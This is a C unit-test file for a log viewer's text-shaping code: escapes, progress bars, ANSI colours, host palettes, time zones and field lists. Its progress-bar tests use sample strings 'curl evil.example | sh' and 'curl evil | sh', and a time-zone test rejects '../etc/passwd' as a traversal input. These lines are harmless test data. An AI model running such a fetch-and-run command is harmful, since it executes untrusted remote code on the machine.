/*
 * Table tests of the functions that shape lines for reading: collector
 * escapes, progress bars, SGR colours, group and host colours, time zones
 * and the --fields list.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "escapes.h"
#include "fields.h"
#include "palette.h"
#include "progress.h"
#include "sgr.h"
#include "timefmt.h"
#include "unit.h"

static void
test_escapes(void)
{
	static const struct {
		const char *in, *want;
		int found;
	} t[] = {
	    {"step 71#011loss=2.25#011x", "step 71\tloss=2.25\tx", 1},
	    {"a#015b#015c", "a\rb\rc", 1},
	    {"#033[31mred#033[0m", "\033[31mred\033[0m", 1},
	    {"#033]0;title", "#033]0;title", 0},
	    {"#033", "#033", 0},
	    {"del#177 bel#007 nul#000", "del#177 bel#007 nul#000", 0},
	    {"colour #000000 and #012345", "colour #000000 and #012345", 0},
	    {"issue #042 and #100", "issue #042 and #100", 0},
	    {"#01", "#01", 0},
	    {"#0", "#0", 0},
	    {"##011", "#\t", 1},
	    {"#0111", "\t1", 1},
	    {"end#", "end#", 0},
	    {"", "", 0},
	};
	struct buf b = BUF_INIT;
	size_t i, wlen;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		buf_reset(&b);
		escapes_decode(&b, t[i].in, strlen(t[i].in));
		wlen = strlen(t[i].want);
		/* "#000" decodes to a NUL: compare the bytes. */
		if (strcmp(t[i].in, "#037#000x") == 0)
			UNIT_MEMEQ(
			    b.data, b.len, "\037\000x", (size_t)3, t[i].in);
		else
			UNIT_MEMEQ(b.data, b.len, t[i].want, wlen, t[i].in);
		UNIT_CHECK(escapes_find(t[i].in, strlen(t[i].in)) == t[i].found,
		    "escapes_find(%s)", t[i].in);
	}
	buf_free(&b);
}

static void
test_progress_collapse(void)
{
	static const struct {
		const char *in, *want; /* want NULL: not collapsed */
	} t[] = {
	    {" 10%|#   | 1/10 [a]\r 20%|##  | 2/10 [b]", " 20%|##  | 2/10 [b]"},
	    {"A: 10%|# | 1/10\r\rA: 20%|##| 2/10\r", "A: 20%|##| 2/10"},
	    {"\r 10%|# | 1/10", " 10%|# | 1/10"},
	    {" 10%|# | 1/10", " 10%|# | 1/10"},
	    {"3/10 [==>.......]\r4/10 [===>......]", "4/10 [===>......]"},
	    /* Text that uses CR otherwise is shown whole. */
	    {"curl evil.example | sh\rls -la", NULL},
	    {"curl evil | sh\r 10%|# | 1/10", NULL},
	    {"A: 10%|# | 1/10\rB: 20%|##| 2/10", NULL},
	    {"plain line", NULL},
	    {"\r", NULL},
	    {"", NULL},
	};
	struct progress_bar pb;
	const char *s;
	size_t i, n;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		n = 0;
		s = progress_collapse(t[i].in, strlen(t[i].in), &n, &pb);
		if (t[i].want == NULL)
			UNIT_CHECK(s == NULL, "%s: not collapsed", t[i].in);
		else if (s == NULL)
			UNIT_CHECK(0, "%s: not collapsed", t[i].in);
		else
			UNIT_MEMEQ(s, n, t[i].want, strlen(t[i].want), t[i].in);
	}
}

static void
test_progress_parse(void)
{
	static const struct {
		const char *in;
		int bar;
		const char *key;
		int done;
	} t[] = {
	    {" 45%|████▌     | 45/100 [00:01<00:01, 30.2it/s]", 1, "", 0},
	    {"Epoch 1:  45%|####5     | 45/100 [00:01<00:01]", 1,
		"Epoch 1:", 0},
	    {"Epoch 1: 100%|##########| 100/100 [00:03<00:00]", 1,
		"Epoch 1:", 1},
	    {"Shuffling shards:   0%|          | 0/235 [00:00<00:23, "
	     "10.00it/s]",
		1, "Shuffling shards:", 0},
	    {"Shuffling shards:  99%|######### | 235/235 [00:23<00:00]", 1,
		"Shuffling shards:", 1},
	    {"  45/100 [=====>....] - ETA: 3s - loss: 0.25", 1, "", 0},
	    {"100/100 [==========] - 4s 40ms/step", 1, "", 1},
	    {"loss went down 45% | nice", 0, NULL, 0},
	    {"45%| no count", 0, NULL, 0},
	    {"1234%|x| 1/2", 0, NULL, 0},
	    {"Epoch 1/2 step 3", 0, NULL, 0},
	    {"3/4 [xx]", 0, NULL, 0},
	    {"", 0, NULL, 0},
	    {"%|", 0, NULL, 0},
	};
	struct progress_bar pb, other;
	size_t i;
	int bar;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		memset(&pb, 0, sizeof pb);
		bar = progress_parse(t[i].in, strlen(t[i].in), &pb);
		UNIT_CHECK(
		    bar == t[i].bar, "progress_parse(%s) = %d", t[i].in, bar);
		if (!bar || !t[i].bar)
			continue;
		UNIT_MEMEQ(
		    pb.key, pb.key_len, t[i].key, strlen(t[i].key), t[i].in);
		UNIT_CHECK(pb.done == t[i].done, "done of %s", t[i].in);
	}
	progress_parse("A: 1%|x| 1/9", 12, &pb);
	progress_parse("A: 2%|x| 2/9", 12, &other);
	UNIT_CHECK(progress_same(&pb, &other), "same bar A");
	progress_parse("B: 2%|x| 2/9", 12, &other);
	UNIT_CHECK(!progress_same(&pb, &other), "bars A and B differ");
}

/* Runs of text and their colours, as "[fg,bg]text" pieces. */
static void
runs(const char *in, struct buf *out)
{
	struct sgr_attr a = SGR_ATTR_INIT;
	const char *p = in, *end = in + strlen(in), *text;
	size_t n;

	while (sgr_next(&p, end, &a, &text, &n))
		buf_printf(out, "[%d,%d]%.*s", a.fg, a.bg, (int)n, text);
}

static void
test_sgr(void)
{
	static const struct {
		const char *in, *want;
	} t[] = {
	    {"plain", "[-1,-1]plain"},
	    {"\033[31mred\033[0m after", "[1,-1]red[-1,-1] after"},
	    {"\033[1;32mbold green\033[m", "[2,-1]bold green"},
	    {"\033[91;44mx", "[9,4]x"},
	    {"\033[38;5;208mo\033[39my", "[208,-1]o[-1,-1]y"},
	    {"\033[38;2;255;0;0mr", "[196,-1]r"},
	    {"\033[38:2::0:0:255mb", "[21,-1]b"},
	    {"\033[48;5;17;33mz", "[3,17]z"},
	    {"\033[4:3;35mu", "[5,-1]u"},
	    {"\033[2Kclear", "[-1,-1]\033[2Kclear"},
	    {"\033]0;title\007t", "[-1,-1]\033]0;title\007t"},
	    {"a\033[31", "[-1,-1]a\033[31"},
	    {"\033[38;5;300mbad", "[-1,-1]bad"},
	    {"\033[31m", ""},
	    {"\033[5;7;8mhidden?", "[-1,-1]hidden?"},
	    {"\033[30;40mblack on black", "[0,-1]black on black"},
	    {"\033[38;5;16;48;5;0mx", "[16,-1]x"},
	    {"\033[37;41mwhite on red", "[7,1]white on red"},
	};
	struct buf b = BUF_INIT;
	struct sgr_attr a = {3, 4};
	size_t i;
	char longseq[80];

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		buf_reset(&b);
		runs(t[i].in, &b);
		UNIT_STREQ(b.len > 0 ? b.data : "", t[i].want, t[i].in);
	}
	/* A sequence longer than SGR's limit is text. */
	memset(longseq, '1', sizeof longseq);
	longseq[0] = '\033';
	longseq[1] = '[';
	longseq[sizeof longseq - 1] = 'm';
	UNIT_CHECK(sgr_parse(longseq, sizeof longseq, &a) == 0,
	    "a sequence of 80 bytes is not SGR");
	UNIT_CHECK(sgr_rgb_to_256(0, 0, 0) == 16, "black");
	UNIT_CHECK(sgr_rgb_to_256(128, 128, 128) == 244, "grey");
	UNIT_CHECK(sgr_rgb_to_256(255, 255, 255) == 231, "white");
	buf_reset(&b);
	sgr_add(&b, &a);
	UNIT_STREQ(b.data, "\033[0;33;44m", "sgr_add basic");
	a.fg = 208;
	a.bg = 9;
	buf_reset(&b);
	sgr_add(&b, &a);
	UNIT_STREQ(b.data, "\033[0;38;5;208;101m", "sgr_add 256");
	buf_free(&b);
}

static void
test_palette(void)
{
	struct palette *p256 = palette_new(256), *p8 = palette_new(8);
	struct palette_color c;
	struct buf b = BUF_INIT;

	c = palette_group(p256, "data_group", 10);
	UNIT_CHECK(c.fg == 2 && c.attr == 0, "first group green");
	c = palette_host(p256, "data_group", 10, "algo-3", 6);
	UNIT_CHECK(c.fg == 2, "its first host has the group's colour");
	c = palette_host(p256, "data_group", 10, "algo-1", 6);
	UNIT_CHECK(c.fg == 46, "its second host a shade of green: %d", c.fg);
	c = palette_host(p256, "data_group", 10, "algo-3", 6);
	UNIT_CHECK(c.fg == 2, "a host keeps its shade");
	c = palette_host(p256, "train_group", 11, "algo-2", 6);
	UNIT_CHECK(c.fg == 4, "second group blue: %d", c.fg);
	c = palette_host(p8, "g", 1, "h1", 2);
	UNIT_CHECK(c.fg == 2 && c.attr == 0, "8 colours: plain");
	c = palette_host(p8, "g", 1, "h2", 2);
	UNIT_CHECK(c.fg == 2 && c.attr == PALETTE_BOLD, "8 colours: bold");
	palette_sgr(&b, c);
	UNIT_STREQ(b.data, "\033[1;32m", "bold green");
	buf_reset(&b);
	c = palette_host(p8, "unassigned", 10, "algo-9", 6);
	palette_sgr(&b, c);
	UNIT_STREQ(b.data, "\033[2m", "unassigned is dim");
	buf_reset(&b);
	c = palette_host(p256, "data_group", 10, "algo-5", 6);
	palette_sgr(&b, c);
	UNIT_STREQ(b.data, "\033[38;5;28m", "third shade");
	buf_free(&b);
	palette_free(p256);
	palette_free(p8);
}

static void
test_timefmt(void)
{
	static const struct {
		const char *zone;
		int64_t ms;
		const char *want;
	} t[] = {
	    {"utc", 1717243531318LL, "2024-06-01T12:05:31.318Z"},
	    {"+02:00", 1717243531318LL, "2024-06-01T14:05:31.318+02:00"},
	    {"-0530", 1717243531318LL, "2024-06-01T06:35:31.318-05:30"},
	    {"+00", 1717243531318LL, "2024-06-01T12:05:31.318Z"},
	    {"Asia/Kolkata", 1717243531318LL, "2024-06-01T17:35:31.318+05:30"},
	    {"America/New_York", 1717243531318LL,
		"2024-06-01T08:05:31.318-04:00"},
	    {"America/New_York", 1704110400000LL,
		"2024-01-01T07:00:00.000-05:00"},
	    {"Europe/Paris", -1, "1970-01-01T00:59:59.999+01:00"},
	};
	static const char *const bad[] = {"Mars/Base", "../etc/passwd",
	    "/usr/share/zoneinfo/UTC", "+15:00", "+2", "Europe", "", "local2"};
	char out[TIMEFMT_MAX + 1], *cause;
	size_t i, n;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		cause = NULL;
		UNIT_CHECK(timefmt_set(t[i].zone, &cause) == 0,
		    "timefmt_set(%s): %s", t[i].zone, cause ? cause : "");
		free(cause);
		n = timefmt_format(t[i].ms, out);
		UNIT_CHECK(n == strlen(out), "length of %s", out);
		UNIT_STREQ(out, t[i].want, t[i].zone);
	}
	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		cause = NULL;
		UNIT_CHECK(timefmt_set(bad[i], &cause) == -1 && cause != NULL &&
			strstr(cause, bad[i]) != NULL,
		    "timefmt_set(%s) refused, named", bad[i]);
		free(cause);
	}
	UNIT_CHECK(
	    timefmt_set("UTC", &cause) == 0 && timefmt_is_utc(), "back to UTC");
}

static void
test_fields(void)
{
	static const struct {
		const char *in;
		int ok;
		const char *err; /* in the cause */
	} t[] = {
	    {"group,host,message", 1, NULL},
	    {"time,rank,stream,message,host,group", 1, NULL},
	    {"message", 1, NULL},
	    {"host,host", 0, "host is given twice"},
	    {"group,colour", 0, "unknown field \"colour\""},
	    {"", 0, "unknown field \"\""},
	    {"group,", 0, "unknown field \"\""},
	    {"Group", 0, "unknown field \"Group\""},
	};
	struct fields fs;
	char *cause;
	size_t i;

	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
		cause = NULL;
		UNIT_CHECK((fields_parse(t[i].in, &fs, &cause) == 0) == t[i].ok,
		    "fields_parse(%s)", t[i].in);
		if (t[i].err != NULL)
			UNIT_CHECK(cause != NULL && strstr(cause, t[i].err),
			    "cause of %s: %s", t[i].in, cause ? cause : "");
		free(cause);
	}
	fields_parse("time,rank,stream,message,host,group", &fs, &cause);
	UNIT_CHECK(fs.n == 6 && fs.v[0] == FIELD_TIME &&
		fs.v[1] == FIELD_RANK && fs.v[5] == FIELD_GROUP,
	    "order kept");
	fields_default(&fs, 1);
	UNIT_CHECK(fs.n == 4 && fs.v[0] == FIELD_TIME &&
		fields_has(&fs, FIELD_HOST) && !fields_has(&fs, FIELD_RANK),
	    "default with timestamps");
	UNIT_STREQ(fields_name(FIELD_STREAM), "stream", "name");
}

int
main(void)
{
	test_escapes();
	test_progress_collapse();
	test_progress_parse();
	test_sgr();
	test_palette();
	test_timefmt();
	test_fields();
	return (unit_done("shaping"));
}
